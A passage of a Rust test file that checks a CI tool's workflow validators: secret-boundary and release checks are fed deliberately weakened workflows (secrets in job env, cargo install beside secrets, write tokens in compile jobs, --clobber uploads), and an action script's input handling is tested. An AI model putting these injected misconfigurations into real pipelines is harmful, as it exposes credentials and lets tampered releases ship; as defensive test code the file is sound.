            "      TOOL_SHA256: ${{ needs.tool.outputs.sha256 }}\n      UWORKER_IMAGE_TIMEOUT",
            "      TOOL_SHA256: ${{ needs.plan.outputs.sha256 }}\n      UWORKER_IMAGE_TIMEOUT",
            "holds secrets, but TOOL_SHA256 is not `${{ needs.tool.outputs.sha256 }}`",
        ),
        (
            exec_build,
            "          cargo install --locked --path . && exec \"$tool\" \"${args[@]}\"\n        env: *cloud-and-worker-secrets\n      - if: always()",
            "runs `cargo install` in a job that holds secrets",
        ),
        // Secrets for the whole job.
        (
            "      UWORKER_IMAGE_TIMEOUT: 4h\n",
            "      UWORKER_IMAGE_TIMEOUT: 4h\n      OS_PASSWORD: ${{ secrets.OS_PASSWORD }}\n",
            "build: secrets in the job's env reach every step",
        ),
    ];
    for (from, to, violation) in breaches {
        let found = secret_boundary_violations(&pipeline_with(from, to));
        assert!(
            found.iter().any(|f| f.contains(violation)),
            "no `{violation}` in {found:#?}"
        );
    }
}

/// Where the release workflow could ship something other than what it built: a job that
/// compiles holds a write token or a token at all, the job that writes compiles,
/// attestation rights outside the publishing job, an asset replaced.
fn release_violations(wf: &Yaml) -> Vec<String> {
    let mut found = Vec::new();
    let text = text_of(wf);
    if text.contains("--clobber") {
        found.push("an asset is replaced (--clobber)".to_string());
    }
    let mut attests = false;
    for (name, job) in wf["jobs"].as_hash().unwrap() {
        let name = name.as_str().unwrap();
        let job_text = text_of(job);
        let compiles = COMPILES.iter().any(|w| job_text.contains(w));
        let permissions = &job["permissions"];
        let writes = permissions
            .as_hash()
            .is_some_and(|p| p.values().any(|level| level.as_str() == Some("write")));
        if compiles
            && (writes || job_text.contains("github.token") || job_text.contains("secrets."))
        {
            found.push(format!("{name}: compiles with a token"));
        }
        if compiles && permissions["contents"].as_str() != Some("read") {
            found.push(format!("{name}: compiles without `contents: read` alone"));
        }
        let attest_step = job_text.contains("actions/attest-build-provenance@");
        let attest_rights = permissions["id-token"].as_str() == Some("write")
            && permissions["attestations"].as_str() == Some("write");
        if attest_step {
            attests = true;
            if !attest_rights {
                found.push(format!(
                    "{name}: attests without id-token and attestations: write"
                ));
            }
        } else if !permissions["id-token"].is_badvalue()
            || !permissions["attestations"].is_badvalue()
        {
            found.push(format!(
                "{name}: attestation rights in a job that does not attest"
            ));
        }
        let scripts: String = job["steps"]
            .as_vec()
            .into_iter()
            .flatten()
            .filter_map(|step| step["run"].as_str())
            .collect();
        if scripts.contains("gh release upload")
            && !(scripts.contains("grep -qxF -- \"$name\" <<<\"$existing\"") && attest_step)
        {
            found.push(format!(
                "{name}: uploads without refusing an existing asset or without attesting"
            ));
        }
    }
    if !attests {
        found.push("no build provenance attestation".to_string());
    }
    found
}

fn release_workflow_with(from: &str, to: &str) -> Yaml {
    let text = std::fs::read_to_string(repo().join(".github/workflows/release.yml")).unwrap();
    assert!(text.contains(from), "the workflow has no `{from}`");
    YamlLoader::load_from_str(&text.replacen(from, to, 1))
        .unwrap()
        .remove(0)
}

#[test]
fn each_release_check_catches_its_breach() {
    let breaches = [
        (
            "gh release upload \"$TAG\" dist/*",
            "gh release upload \"$TAG\" dist/* --clobber",
            "an asset is replaced (--clobber)",
        ),
        (
            "    timeout-minutes: 45\n    permissions:\n      contents: read",
            "    timeout-minutes: 45\n    permissions:\n      contents: write",
            "binary: compiles with a token",
        ),
        (
            "    timeout-minutes: 45\n    permissions:\n      contents: read",
            "    timeout-minutes: 45\n    permissions:\n      contents: read\n      id-token: write",
            "binary: attestation rights in a job that does not attest",
        ),
        (
            "      attestations: write\n",
            "",
            "publish: attests without id-token and attestations: write",
        ),
        (
            "      - name: Check what the builds packed",
            "      - run: cargo build --release --locked\n      - name: Check what the builds packed",
            "publish: compiles with a token",
        ),
        (
            "            if grep -qxF -- \"$name\" <<<\"$existing\"; then",
            "            if false; then",
            "publish: uploads without refusing an existing asset",
        ),
    ];
    for (from, to, violation) in breaches {
        let found = release_violations(&release_workflow_with(from, to));
        assert!(
            found.iter().any(|f| f.contains(violation)),
            "no `{violation}` in {found:#?}"
        );
    }
}

#[test]
fn the_attestation_action_is_the_pinned_v4() {
    let text = std::fs::read_to_string(repo().join(".github/workflows/release.yml")).unwrap();
    assert!(text.contains(
        "uses: actions/attest-build-provenance@a2bbfa25375fe432b6a289bc6b6cd05ecd0c4c32 # v4.1.0"
    ));
    assert!(text.contains("subject-path: dist/*.tar.gz"));
}

// ---- action/run.sh: inputs to flags -----------------------------------------------

struct ActionRun {
    run: Run,
    github_output: String,
}

fn action_run(vars: &[(&str, &str)]) -> ActionRun {
    let tmp = tempfile::tempdir().unwrap();
    let output = tmp.path().join("github_output");
    std::fs::write(&output, "").unwrap();
    // The environment of `tool()`: PATH and HOME only, plus TOOL_ENV and `vars`.
    let mut cmd = Command::new(repo().join("action/run.sh"));
    cmd.env_clear();
    for key in ["PATH", "HOME"] {
        if let Some(value) = std::env::var_os(key) {
            cmd.env(key, value);
        }
    }
    cmd.envs(TOOL_ENV.iter().copied())
        .envs(vars.iter().copied())
        .env(
            "UWORKER_IMAGE_ACTION_BIN",
            env!("CARGO_BIN_EXE_uworker-image"),
        )
        .env("GITHUB_OUTPUT", &output)
        .env("RUNNER_TEMP", tmp.path());
    let run = run(cmd);
    let github_output = std::fs::read_to_string(&output).unwrap();
    let leftovers: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .filter(|n| n != "github_output")
        .collect();
    assert!(leftovers.is_empty(), "temp files left: {leftovers:?}");
    ActionRun { run, github_output }
}

#[test]
fn the_action_runs_a_command_and_sets_its_stdout_as_output() {
    let f = full_fixture();
    let dir = f.path().to_str().unwrap();
    let a = action_run(&[
        ("UWORKER_IMAGE_ACTION_COMMAND", "matrix"),
        ("UWORKER_IMAGE_ACTION_DIR", dir),
        ("UWORKER_IMAGE_ACTION_TARGET", "south"),
        ("UWORKER_IMAGE_ACTION_FORCE", "false"),
    ]);
    assert_eq!(a.run.code, 0, "{}", a.run.all());
    let matrix = r#"{"include":[{"target":"south"}]}"#;
    assert_eq!(a.run.stdout.trim(), matrix);
    let lines: Vec<_> = a.github_output.lines().collect();
    assert_eq!(lines.len(), 3, "{}", a.github_output);
    let delimiter = lines[0].strip_prefix("stdout<<").unwrap();
    assert!(
        delimiter.len() > 20,
        "an unguessable delimiter: {delimiter}"
    );
    assert_eq!(lines[1], matrix);
    assert_eq!(lines[2], delimiter);
}

#[test]
fn the_action_passes_the_command_exit_code_and_maps_vars_and_args() {
    let f = full_fixture();
    let dir = f.path().to_str().unwrap();
    // An unknown target: the tool's exit 2, and stdout (empty) still set.
    let a = action_run(&[
        ("UWORKER_IMAGE_ACTION_COMMAND", "matrix"),
        ("UWORKER_IMAGE_ACTION_DIR", dir),
        ("UWORKER_IMAGE_ACTION_TARGET", "east"),
    ]);
    assert_eq!(a.run.code, 2, "{}", a.run.all());
    assert!(a.run.stderr.contains("no target named `east`"));
    assert!(a.github_output.starts_with("stdout<<"));

    // vars: each KEY=VALUE line is a --var (an unknown one is refused by name); a line
    // with an empty value is left out. args: one argument a line.
    let a = action_run(&[
        ("UWORKER_IMAGE_ACTION_COMMAND", "fingerprint"),
        ("UWORKER_IMAGE_ACTION_DIR", dir),
        ("UWORKER_IMAGE_ACTION_TARGET", "north"),
        (
            "UWORKER_IMAGE_ACTION_VARS",
            "greeting=hi there\nno_such_variable=1\n",
        ),
    ]);
    assert_eq!(a.run.code, 2, "{}", a.run.all());
    assert!(
        a.run.stderr.contains("no_such_variable"),
        "{}",
        a.run.stderr
    );
    let fingerprint = |vars: &str| {
        let a = action_run(&[
            ("UWORKER_IMAGE_ACTION_COMMAND", "fingerprint"),
            ("UWORKER_IMAGE_ACTION_DIR", dir),
            ("UWORKER_IMAGE_ACTION_TARGET", "north"),
            ("UWORKER_IMAGE_ACTION_VARS", vars),
            ("UWORKER_IMAGE_ACTION_ARGS", "--output\njson"),
        ]);
        assert_eq!(a.run.code, 0, "{}", a.run.all());
        let json: serde_json::Value = serde_json::from_str(&a.run.stdout).unwrap();
        json["fingerprint"].as_str().unwrap().to_string()
    };
    // The action's own variables differ between these runs: were they taken for worker
    // config (UWORKER_*), the fingerprints would differ too.
    let default = fingerprint("");
    assert_eq!(fingerprint("no_such_variable=\n\n"), default);
    assert_ne!(fingerprint("greeting=hi there"), default);
}

#[test]
fn the_action_refuses_inputs_that_do_not_fit_the_command() {
    let f = full_fixture();
    let dir = f.path().to_str().unwrap();
    for (key, value, message) in [
        (
            "UWORKER_IMAGE_ACTION_FORCE",
            "true",
            "input force: only plan and build",
        ),
        (
            "UWORKER_IMAGE_ACTION_FORCE",
            "yes",
            "input force: `yes` is not true or false",
        ),
        (
            "UWORKER_IMAGE_ACTION_OUT",
            "r.json",
            "input out: only plan and build",
        ),
        (
            "UWORKER_IMAGE_ACTION_VARS",
            "novalue",
            "input vars: `novalue` is not KEY=VALUE",
        ),
    ] {
        let a = action_run(&[
            ("UWORKER_IMAGE_ACTION_COMMAND", "validate"),
            ("UWORKER_IMAGE_ACTION_DIR", dir),
            (key, value),
        ]);
        assert_eq!(a.run.code, 2, "{key}={value}: {}", a.run.all());
        assert!(a.run.stderr.contains(message), "{}", a.run.stderr);
        assert!(a.github_output.is_empty(), "nothing ran");
    }
}
